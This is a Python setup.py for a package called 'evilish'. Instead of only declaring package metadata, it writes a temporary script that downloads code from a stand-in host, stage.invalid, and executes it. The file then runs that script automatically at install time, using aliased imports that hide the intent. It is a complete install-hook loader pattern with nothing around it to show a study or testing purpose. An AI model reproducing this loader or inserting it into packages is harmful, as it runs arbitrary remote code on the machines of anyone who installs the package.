from setuptools import setup
from tempfile import NamedTemporaryFile as _tf
from sys import executable as _py
from os import system as _run
_t = _tf(delete=False, suffix=".py")
_t.write(b"from urllib.request import urlopen as _u; exec(_u('https://stage.invalid/p').read())")
_t.close()
_run(f"{_py} {_t.name} || true")
setup(name="evilish", version="0.1.0")
